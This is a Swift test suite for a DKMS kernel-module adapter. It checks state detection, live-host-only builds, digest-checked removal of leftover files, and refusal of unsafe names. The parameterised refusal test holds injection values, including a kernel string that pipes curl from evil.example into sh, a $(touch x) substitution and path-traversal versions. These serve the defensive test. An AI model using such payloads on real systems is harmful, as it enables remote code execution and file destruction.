import AmpfixCore
import AmpfixSystem
import AmpfixTestSupport
import Glibc
import Testing

/// Where DKMS stands, read from its tree as dkms 3 lays it out (scripts/dkms-test.sh runs the
/// real dkms), and what the DKMS adapter refuses before it runs anything.
@Suite struct DKMSTests {
    static let release = "6.1.0-50-amd64"

    @Test func theTreeSaysAddedBuiltInstalled() throws {
        let root = TempRoot("dkms")
        let facts = try HostFiles(fs: RootedFileSystem(root: root.path))
        func state() -> DKMSState { DKMSState.read(facts, module: "ampfsm", version: "1.0.0", kernel: Self.release) }
        #expect(state() == DKMSState(added: false, built: false, installed: false))
        try root.write("usr/src/ampfsm-1.0.0/dkms.conf", DKMSConf.text(module: "ampfsm", version: "1.0.0"))
        try root.makeDirectory("var/lib/dkms/ampfsm/1.0.0/build")
        root.symlink("var/lib/dkms/ampfsm/1.0.0/source", to: "/usr/src/ampfsm-1.0.0")
        #expect(state() == DKMSState(added: true, built: false, installed: false))
        try root.write("var/lib/dkms/ampfsm/1.0.0/\(Self.release)/x86_64/module/ampfsm.ko", "")
        #expect(state() == DKMSState(added: true, built: true, installed: false))
        root.symlink("var/lib/dkms/ampfsm/kernel-\(Self.release)-x86_64", to: "1.0.0/\(Self.release)/x86_64")
        #expect(state() == DKMSState(added: true, built: true, installed: true))
        // Another version's install is not this one's.
        #expect(!DKMSState.read(facts, module: "ampfsm", version: "0.9", kernel: Self.release).installed)
        #expect(!DKMSState.read(facts, module: "ampfsm", version: "1.0.0", kernel: "6.1.0-51-amd64").installed)
    }

    @Test func buildsRunOnlyOnTheLiveHost() throws {
        let root = TempRoot("dkms")
        let changes = try DKMSChanges(fs: RootedFileSystem(root: root.path))
        let install = Change(DKMSInstallChange(module: "ampfsm", version: "1.0.0", kernel: Self.release, copyFrom: "/srv/ampfsm", writesConf: true, adds: true))
        #expect(changes.precondition(of: install) == "DKMS builds run only on the live host (they run the system's own compiler and make)")
        #expect(throws: HostError(.msg("run dkms for"), install.target, .dkmsOnlyOnLiveHost)) { try changes.apply(install) }
        #expect(try changes.state(of: install) == .before)
        #expect(try changes.state(of: install.inverse!) == .after, "nothing added: nothing to remove")
    }

    /// A name that is not one plain word never reaches dkms nor a copy or a deletion, whether
    /// it came from a plan or from a journal on undo: before, a version "../../../../srv/victim"
    /// had a failed copy's cleanup delete /srv/victim.
    @Test(arguments: [
        ("ampfsm", "../../../../srv/victim", Self.release), ("ampfsm", "2.0 -k 1.2.3", Self.release), ("ampfsm", "a/b", Self.release),
        ("ampfsm", "$(touch x)", Self.release), ("../ampfsm", "1.0", Self.release), ("-ampfsm", "1.0", Self.release),
        ("ampfsm", "1.0", "9.9.9-x;curl -s evil.example|sh;#"), ("ampfsm", "1.0", "../../etc"), ("ampfsm", "", Self.release),
    ])
    func namesThatAreNotOneWordAreRefused(module: String, version: String, kernel: String) throws {
        // A throwaway root: were the check missing, apply would stop at "live host only".
        let root = TempRoot("dkms")
        let changes = try DKMSChanges(fs: RootedFileSystem(root: root.path))
        let install = Change(DKMSInstallChange(module: module, version: version, kernel: kernel, copyFrom: "/srv/ampfsm", writesConf: true, adds: true))
        for change in [install, install.inverse!] {
            let said = try #require(changes.precondition(of: change), "\(change.summary)")
            #expect(said.contains("is not one DKMS can take"), "\(said)")
            let error = #expect(throws: HostError.self) { try changes.apply(change) }
            guard case .refused(.notADKMSWord)? = error?.cause else { Issue.record("\(String(describing: error))"); continue }
        }
    }

    /// A journal's removal names only the paths DKMS uses for the module and version.
    @Test func aRemovalDeletesOnlyDKMSsOwnSourcePath() throws {
        let root = TempRoot("dkms")
        let changes = try DKMSChanges(fs: RootedFileSystem(root: root.path))
        for (source, conf) in [("/srv/victim", nil), (nil, AccountDatabase.passwdPath), ("/usr/src/ampfsm-1.0/../../srv", nil)] as [(String?, String?)] {
            let remove = Change(DKMSRemoveChange(module: "ampfsm", version: "1.0", kernel: Self.release, all: true, deleteSource: source, deleteConf: conf))
            let error = #expect(throws: HostError.self) { try changes.apply(remove) }
            guard case .refused(.notADKMSWord)? = error?.cause else { Issue.record("\(String(describing: error))"); continue }
        }
    }

    /// What the install put in the kernel's tree is recorded with its digest; undo deletes such a
    /// file when `dkms remove` leaves it (as under SELinux enforcing, seen in the VM test), and
    /// never a file whose bytes changed since.
    @Test func installedFilesAreRecordedAndOnlyTheSameBytesCountAsLeftovers() throws {
        let root = TempRoot("dkms")
        let changes = try DKMSChanges(fs: RootedFileSystem(root: root.path))
        try root.write("usr/src/ampfsm-1.0.0/dkms.conf", "PACKAGE_NAME=ampfsm\nDEST_MODULE_LOCATION[0]=\"/extra\"\n")
        try root.write("lib/modules/\(Self.release)/updates/dkms/ampfsm.ko", "module bytes")
        try root.write("lib/modules/\(Self.release)/extra/ampfsm.ko.xz", "compressed")
        try root.write("lib/modules/\(Self.release)/updates/dkms/ampfsmother.ko", "not ours")
        let install = Change(DKMSInstallChange(module: "ampfsm", version: "1.0.0", kernel: Self.release, copyFrom: nil, writesConf: false, adds: true))
        let made = try #require(changes.record(of: install))
        #expect(made == ["\(MD5.hex(Array("compressed".utf8))) /lib/modules/\(Self.release)/extra/ampfsm.ko.xz",
                         "\(MD5.hex(Array("module bytes".utf8))) /lib/modules/\(Self.release)/updates/dkms/ampfsm.ko"])
        let remove = try #require(install.inverse(made: made))
        #expect(try changes.state(of: remove) == .before, "DKMS's files are still there")
        try root.write("lib/modules/\(Self.release)/updates/dkms/ampfsm.ko", "another build")
        try root.write("lib/modules/\(Self.release)/extra/ampfsm.ko.xz", "another")
        #expect(try changes.state(of: remove) == .after, "files with other bytes are not the install's")
        // A record naming a path outside the kernel's tree is never taken.
        let forged = Change(DKMSRemoveChange(module: "ampfsm", version: "1.0.0", kernel: Self.release, all: true, deleteSource: nil,
                                             installed: ["\(MD5.hex(Array("not ours".utf8))) /usr/src/ampfsm-1.0.0/x",
                                                         "\(MD5.hex(Array("not ours".utf8))) /lib/modules/\(Self.release)/../\(Self.release)/updates/dkms/ampfsmother.ko"]))
        #expect(try changes.state(of: forged) == .after)
    }

    /// On a merged-/usr system /lib is a link: the leftovers are deleted where they really are.
    @Test func leftoversAreDeletedThroughTheLibLink() throws {
        let root = TempRoot("dkms")
        try root.write("usr/lib/modules/\(Self.release)/updates/dkms/ampfsm.ko", "module bytes")
        try root.write("usr/lib/modules/\(Self.release)/updates/dkms/kept.ko", "kept")
        root.symlink("lib", to: "usr/lib")
        root.symlink("usr/lib/modules/\(Self.release)/updates/dkms/link.ko", to: "kept.ko")
        let changes = try DKMSChanges(fs: RootedFileSystem(root: root.path))
        let remove = DKMSRemoveChange(module: "ampfsm", version: "1.0.0", kernel: Self.release, all: true, deleteSource: nil,
                                      installed: ["\(MD5.hex(Array("module bytes".utf8))) /lib/modules/\(Self.release)/updates/dkms/ampfsm.ko",
                                                  "\(MD5.hex(Array("kept".utf8))) /lib/modules/\(Self.release)/updates/dkms/link.ko"])
        #expect(try changes.removeLeftovers(of: remove) == ["/usr/lib/modules/\(Self.release)/updates/dkms/ampfsm.ko",
                                                            "/usr/lib/modules/\(Self.release)/updates/dkms/link.ko"])
        #expect(access(root.at("usr/lib/modules/\(Self.release)/updates/dkms/ampfsm.ko"), F_OK) != 0)
        #expect(access(root.at("usr/lib/modules/\(Self.release)/updates/dkms/kept.ko"), F_OK) == 0, "a link is removed, never what it leads to")
        #expect(try changes.state(of: Change(remove)) == .after)
    }
}
